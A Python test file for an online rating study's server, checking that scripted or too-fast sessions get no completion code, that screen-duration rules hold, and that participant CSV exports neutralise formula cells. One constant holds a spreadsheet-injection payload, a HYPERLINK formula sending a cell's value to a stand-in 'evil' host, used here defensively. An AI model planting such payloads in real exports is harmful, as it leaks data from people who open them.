"""Sessions a person could have produced, and a participant table safe in a spreadsheet.

A script that sends a whole session in seconds, a ``timed_out`` finish sent at once and a
formula as a participant id are each driven against a real ``serve``, as a hostile client
would drive it; the rules behind them are checked in process against values worked out by
hand (two frames at 60 Hz are 33.3 ms; 10 % of 0.6 s is 60 ms) and the page's own way of
timing its screens (web/plugin-sbir-rating.js: each flip 1.5 frames before the screen's end).
"""

from __future__ import annotations

import csv
import io
import math
import secrets

import httpx
import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from sbir_study.analysis.catch import score_catch_pairs
from sbir_study.foundation.checks import InputError
from sbir_study.study.online.endings import longest_silence_s
from sbir_study.study.online.plausibility import check_durations
from sbir_study.study.online.scoring import TrialRecord
from sbir_study.study.online.status import (
    FORMULA_STARTS,
    participant_table,
    participant_table_csv,
    spreadsheet_cell,
)
from sbir_study.study.protocol import Protocol, Timing
from tests.study.online.support import ADMIN_TOKEN, make_client, report, write_protocol

ADMIN = {"Authorization": f"Bearer {ADMIN_TOKEN}"}
FORMULA_ID = '=HYPERLINK("https://evil/?"&A2,"approve")'


def _start(base: str, source_id: str) -> tuple[dict, dict]:
    token = secrets.token_urlsafe(32)
    answer = httpx.post(
        base + "api/sessions", json={"participant": source_id, "token": token}, timeout=30
    )
    assert answer.status_code == 201, answer.text
    return answer.json(), {"Authorization": f"Bearer {token}"}


def _script_report(trial: dict, number: int, *, shown_s: float, blank_s: float) -> dict:
    """What a script sends: no frames, its own durations, no key."""
    body = report(trial, number, stimulus_s=shown_s, blank_s=blank_s, onset=5.0 + number)
    return {**body, "frames": []}


def test_a_script_sending_a_session_in_seconds_is_never_shown_a_code(
    tmp_path, online_set, start_server
):
    protocol = write_protocol(tmp_path, online={"completion_code": "PAID1"})
    server = start_server(protocol, online_set, tmp_path / "data")
    base = server.url
    state, headers = _start(base, "script1")
    url = f"{base}api/sessions/{state['session_id']}"
    # 10 ms stimuli and blanks, as fast as the script can send them: each one refused,
    # naming the duration.
    for number, trial in enumerate(state["trials"], start=1):
        put = httpx.put(
            f"{url}/trials/{number}",
            json=_script_report(trial, number, shown_s=0.01, blank_s=0.01),
            headers=headers,
            timeout=30,
        )
        assert put.status_code == 422, put.text
        assert put.json()["error"].startswith("stim_duration: expected at least 0.5400 s")
    # The same script claiming the planned durations: stored, but the finish is refused,
    # the session has not existed long enough on the server's clock.
    for number, trial in enumerate(state["trials"], start=1):
        body = _script_report(trial, number, shown_s=0.6, blank_s=0.4)
        put = httpx.put(f"{url}/trials/{number}", json=body, headers=headers, timeout=30)
        assert put.status_code == 201, put.text
    done = httpx.post(f"{url}/finish", json={"status": "complete"}, headers=headers, timeout=30)
    assert done.status_code == 409, done.text
    assert "cannot be complete" in done.json()["error"] and "PAID1" not in done.text
    back = httpx.get(url, headers=headers, timeout=30)
    assert back.json()["status"] == "running" and "completion" not in back.json()
    assert "PAID1" not in back.text
    # The experimenter sees it flagged, and no code given.
    rows = list(csv.DictReader(io.StringIO(server.admin("admin/participants.csv").text)))
    assert [(r["status"], r["completion_code"], r["flag"]) for r in rows] == [
        ("running", "", "too_fast")
    ]
    assert float(rows[0]["wall_time_s"]) < float(rows[0]["planned_time_s"])
    assert "too_fast" in server.admin("admin").text


def test_a_timed_out_finish_sent_at_once_is_refused(tmp_path, online_set, start_server):
    protocol = write_protocol(tmp_path, online={"timed_out_code": "LATE1"})
    server = start_server(protocol, online_set, tmp_path / "data")
    state, headers = _start(server.url, "early1")
    url = f"{server.url}api/sessions/{state['session_id']}"
    done = httpx.post(f"{url}/finish", json={"status": "timed_out"}, headers=headers, timeout=30)
    assert done.status_code == 409, done.text
    assert "has not timed out" in done.json()["error"] and "LATE1" not in done.text
    back = httpx.get(url, headers=headers, timeout=30).json()
    assert back["status"] == "running" and "completion" not in back


def test_a_formula_id_is_text_in_the_participant_csv(tmp_path, online_set, start_server):
    server = start_server(write_protocol(tmp_path), online_set, tmp_path / "data")
    _start(server.url, FORMULA_ID)
    _start(server.url, "-1")
    text = server.admin("admin/participants.csv").text
    rows = list(csv.DictReader(io.StringIO(text)))
    assert [r["source_id"] for r in rows] == ["'" + FORMULA_ID, "'-1"]
    # The number columns are numbers still, and no cell of the file begins a formula.
    assert [float(r["wall_time_s"]) for r in rows] == [0.0, 0.0]
    for row in csv.reader(io.StringIO(text)):
        assert not any(cell.startswith(FORMULA_STARTS) for cell in row), row


@given(st.text(max_size=30))
def test_a_text_cell_never_begins_a_formula_and_keeps_what_it_said(text):
    cell = spreadsheet_cell(text)
    assert not cell.startswith(FORMULA_STARTS)
    # OWASP's rule: one quote before a cell that begins a formula, nothing else changed.
    assert cell == ("'" + text if text[:1] in ("=", "+", "-", "@", "\t", "\r") else text)


@settings(deadline=None, max_examples=50)
@given(
    st.lists(
        st.tuples(st.text(max_size=12), st.floats(-1e6, 1e6, allow_nan=False)),
        min_size=1,
        max_size=8,
    )
)
def test_the_csv_neutralises_text_cells_and_keeps_numbers(rows):
    table = pd.DataFrame(rows, columns=["source_id", "wall_time_s"])
    read = list(csv.reader(io.StringIO(participant_table_csv(table))))[1:]
    for (text, number), (text_cell, number_cell) in zip(rows, read, strict=True):
        assert not text_cell.startswith(FORMULA_STARTS)
        assert text_cell == ("'" + text if text[:1] in ("=", "+", "-", "@", "\t", "\r") else text)
        assert float(number_cell) == pytest.approx(number)  # -0.5 stays -0.5


def _record(phase: str, shown: float, blank: float) -> TrialRecord:
    return TrialRecord(
        trial=1,
        phase=phase,
        sketch_id="s",
        image_id="i",
        rating=None,
        rt=None,
        anchor_rating=None,
        onset=1.0,
        stim_duration=shown,
        blank_duration=blank,
        dropped_frames=None,
        n_presses=0,
        presses=None,
        paused_before=0.0,
    )


TIMING = Timing(stimulus_s=0.6, blank_s=0.1, anchor_demo_s=3.0)


@pytest.mark.parametrize(
    ("phase", "shown", "blank", "refresh", "field"),
    [
        # 10 % of 0.6 s (60 ms) is more than two frames at 60 Hz (33.3 ms): 0.54 s is the least.
        ("main", 0.541, 0.1, 60.0, None),
        ("main", 0.539, 0.1, 60.0, "stim_duration"),
        # Two frames at 60 Hz (33.3 ms) are more than 10 % of 0.1 s: 0.0667 s is the least.
        ("main", 0.6, 0.067, 60.0, None),
        ("main", 0.6, 0.066, 60.0, "blank_duration"),
        # Timed by the clock: two frames at the protocol's slowest refresh, 50 Hz (40 ms).
        ("main", 0.6, 0.061, None, None),
        ("main", 0.6, 0.059, None, "blank_duration"),
        # An anchor demonstration is planned for anchor_demo_s (3 s): 2.7 s is the least.
        ("anchor_demo", 2.71, 0.1, 60.0, None),
        ("anchor_demo", 0.6, 0.1, 60.0, "stim_duration"),
        # Longer than planned: a busy page.
        ("main", 5.0, 2.0, 60.0, None),
    ],
)
def test_a_screen_shorter_than_planned_is_refused_naming_it(phase, shown, blank, refresh, field):
    record = _record(phase, shown, blank)
    if field is None:
        check_durations(record, TIMING, refresh)
    else:
        with pytest.raises(InputError, match=f"^{field}: expected at least"):
            check_durations(record, TIMING, refresh)


@given(
    refresh=st.floats(50.0, 250.0),
    shown=st.floats(0.05, 3.0),
    blank=st.floats(0.05, 3.0),
    phase=st.floats(0.0, 1.0),
)
def test_a_screen_timed_as_the_page_times_it_is_never_refused(refresh, shown, blank, phase):
    # The page (plugin-sbir-rating.js) hides the pair at the first frame at or after
    # onset + shown - 1.5 frames, the blank is on from the next frame; it shows the next
    # pair at the first frame at or after blank onset + blank - 1.5 frames, on from the
    # frame after that.
    period = 1.0 / refresh
    onset = phase * period
    hide = onset + period * math.ceil((shown - 1.5 * period) / period - 1e-9)
    blank_onset = hide + period
    shown_next = blank_onset + period * math.ceil((blank - 1.5 * period) / period - 1e-9)
    next_onset = shown_next + period
    timing = Timing(stimulus_s=shown, blank_s=blank)
    check_durations(_record("main", blank_onset - onset, next_onset - blank_onset), timing, refresh)


def _brute_silence(created, received, now):
    times = [created, *received, now]
    return max(
        (b - a for a in times for b in times if b >= a and not any(a < t < b for t in times)),
        default=0.0,
    )


@given(
    st.floats(0, 100),
    st.lists(st.floats(0, 100), max_size=8),
    st.floats(0, 100),
)
def test_the_longest_silence_is_the_widest_gap_between_contacts(created, received, extra):
    received = [created + r for r in received]
    now = max([created, *received]) + extra
    assert longest_silence_s(created, received, now) == pytest.approx(
        _brute_silence(created, received, now)
    )


def test_a_session_completes_only_once_its_trials_could_have_taken_place(
    tmp_path, online_set, server_clock
):
    client = make_client(tmp_path, online_set, online={"completion_code": "OK1"})
    token = secrets.token_urlsafe(32)
    state = client.post("/api/sessions", json={"participant": "p1", "token": token}).json()
    headers = {"Authorization": f"Bearer {token}"}
    url = f"/api/sessions/{state['session_id']}"
    for number, trial in enumerate(state["trials"], start=1):
        put = client.put(f"{url}/trials/{number}", json=report(trial, number), headers=headers)
        assert put.status_code == 201, put.text
    # 14 trials of 0.6 s and 0.4 s: at least 0.54 s and 0.36 s each on a real page.
    n = len(state["trials"])
    shortest = n * (0.54 + 0.36)
    server_clock[0] += shortest - 0.05
    early = client.post(f"{url}/finish", json={"status": "complete"}, headers=headers)
    assert early.status_code == 409 and "OK1" not in early.text
    assert f"take at least {shortest:.1f} s" in early.json()["error"]
    server_clock[0] += 0.1
    done = client.post(f"{url}/finish", json={"status": "complete"}, headers=headers)
    assert done.status_code == 200 and done.json()["completion"]["code"] == "OK1"


def test_catch_pairs_failed_are_counted_as_the_analysis_counts_them():
    protocol = Protocol(
        catch=[
            {"sketch_id": "s1", "image_id": "s1", "ratings": "1-2"},
            {"sketch_id": "s2", "image_id": "blank", "ratings": "7"},
        ]
    )
    sessions = pd.DataFrame(
        {
            "id": ["a", "b"],
            "participant": ["A", "B"],
            "source_id": ["A", "B"],
            "list_index": [0, 0],
            "status": ["complete", "complete"],
            "n_trials": [4, 4],
            "created_at": [0.0, 1.0],
            "last_seen_at": [100.0, 100.0],
            "finished_at": [100.0, 100.0],
        }
    )
    ratings = [  # session, phase, sketch, image, rating
        ("a", "main", "s1", "s1", 5.0),
        ("a", "main", "s2", "blank", 7.0),
        ("a", "anchor_repeat", "s1", "s1", 6.0),  # not the main block: not scored
        ("a", "main", "s1", "x", 3.0),
        ("b", "main", "s1", "s1", 2.0),
        ("b", "main", "s2", "blank", None),
    ]
    trials = pd.DataFrame(
        ratings, columns=["session_id", "phase", "sketch_id", "image_id", "rating"]
    )
    trials = trials.assign(rt=0.8, presses="3@0.8000", stim_duration=2.0, blank_duration=1.0)
    table = participant_table(
        protocol, sessions, trials, silent_since=0.0, code_of=lambda status: None
    )
    # The analysis's own scoring (analysis.catch) of the same ratings.
    scored = score_catch_pairs(
        trials.rename(columns={"session_id": "participant"}).assign(
            rating=lambda t: t["rating"].astype("Float64")
        ),
        pd.DataFrame(
            [("s1", "s1", 1, 2), ("s2", "blank", 7, 7)],
            columns=["sketch_id", "image_id", "lowest", "highest"],
        ),
    )
    assert table["n_catch_failed"].tolist() == scored["n_catch_failed"].tolist() == [1, 0]
    assert table["flag"].tolist() == ["catch_failed", ""]
